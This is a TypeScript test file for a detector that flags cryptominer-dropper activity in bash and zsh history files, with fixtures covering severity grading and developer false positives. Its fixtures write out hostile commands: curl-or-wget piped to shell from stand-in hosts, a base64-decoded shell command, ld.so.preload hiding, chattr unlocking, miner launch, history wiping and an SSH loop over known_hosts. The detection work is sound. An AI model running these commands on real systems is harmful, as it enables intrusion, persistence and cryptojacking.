import { describe, expect, it } from 'vitest';
import type { TelemetryEvent } from '../../model/event.js';
import { historyDropper } from './history-dropper.js';

function hist(content: string, firstLine: number | null = 1, kind = 'shell-history'): TelemetryEvent {
  return {
    kind: 'file',
    time: 1_700_000_000_000,
    hostId: 'h',
    source: 'file-sweep',
    fields: {
      'file.path': '/root/.bash_history',
      'file.kind': kind,
      'file.content': content,
      'file.firstLine': firstLine,
    },
  };
}

const DROPPER = [
  'ls -la',
  'cd /tmp',
  'curl -fsSL http://198.51.100.7/ldr.sh | bash',
  'chattr -ia /etc/crontab /root/.ssh/authorized_keys',
  'pkill -9 -f kdevtmpfsi; killall xmrig',
  'echo /usr/local/lib/libhide.so > /etc/ld.so.preload',
  './.x/dbus -o stratum+tcp://pool.example:3333 -u WALLET',
  'echo Y3VybCBodHRwOi8veC9zLnNofHNo | base64 -d | sh',
  'history -c',
  "for h in $(awk '{print $1}' ~/.ssh/known_hosts); do ssh -oBatchMode=yes root@$h id; done",
].join('\n');

describe('exec.history-dropper', () => {
  it('lists each dropper line with its line number and what it shows; many signs make it critical', () => {
    const hit = historyDropper.detect(hist(DROPPER));
    expect(hit).toMatchObject({
      entity: { kind: 'file', path: '/root/.bash_history' },
      severity: 'critical',
      evidence: {
        signs: [
          'chattr-immutable',
          'decode-to-shell',
          'download-to-shell',
          'history-cleared',
          'known-hosts-loop',
          'ld-preload-edit',
          'rival-kill',
          'stratum-url',
        ],
        matchedLines: 8,
        paths: [
          '/etc/crontab',
          '/root/.ssh/authorized_keys',
          '/usr/local/lib/libhide.so',
          '/etc/ld.so.preload',
        ],
      },
    });
    const lines = (hit && !Array.isArray(hit) ? hit.evidence.lines : []) as {
      line: number;
      tags: string[];
    }[];
    expect(lines.map((l) => l.line)).toEqual([3, 4, 5, 6, 7, 8, 9, 10]);
    expect(lines[0]?.tags).toEqual(['download-to-shell']);
  });

  it('numbers lines from where a long history was read, and reads zsh extended history', () => {
    const hit = historyDropper.detect(hist(': 1700000000:0;wget -qO- http://x/k.sh | sh\n', 5001));
    expect(hit).toMatchObject({
      severity: 'high',
      evidence: { readFromLine: 5001, lines: [{ line: 5001, text: 'wget -qO- http://x/k.sh | sh' }] },
    });
    expect(historyDropper.detect(hist('curl http://x/a | sh\n', null))).toMatchObject({
      evidence: { lines: [{ line: null }], lineNumbers: expect.stringMatching(/unknown/) },
    });
  });

  it('grades chattr or a history wipe alone as medium', () => {
    expect(historyDropper.detect(hist('sudo chattr +i /etc/resolv.conf\n'))).toMatchObject({
      severity: 'medium',
      evidence: { signs: ['chattr-immutable'] },
    });
  });

  it("leaves a developer's history alone, vendor installers included", () => {
    const dev = [
      'git pull --rebase',
      'curl -sSf https://sh.rustup.rs | sh',
      'curl -fsSL https://get.docker.com | sudo sh',
      'curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash',
      'curl -s https://api.example.com/v1/items | jq .',
      'base64 -d token.b64 > token',
      'cat /etc/ld.so.preload',
      'kill -9 4242',
      'grep -r stratum docs/',
      'ssh-keygen -R old.example -f ~/.ssh/known_hosts',
      'npm run build',
    ].join('\n');
    expect(historyDropper.detect(hist(dev))).toBeNull();
    // a vendor installer next to a real dropper on one line still counts
    expect(
      historyDropper.detect(hist('curl https://sh.rustup.rs | sh; curl http://198.51.100.7/x | sh\n')),
    ).toMatchObject({ evidence: { signs: ['download-to-shell'] } });
  });

  it('skips binary content and files of other kinds', () => {
    const binary = `${'\u0000'.repeat(500)}curl http://x/a | sh\n`;
    expect(historyDropper.detect(hist(binary))).toBeNull();
    expect(historyDropper.detect(hist('curl http://x/a | sh\n', 1, 'shell-rc'))).toBeNull();
    const huge = `${'x'.repeat(1_000_000)} curl http://x/a | sh\n`;
    expect(historyDropper.detect(hist(huge))).toBeNull();
  });
});
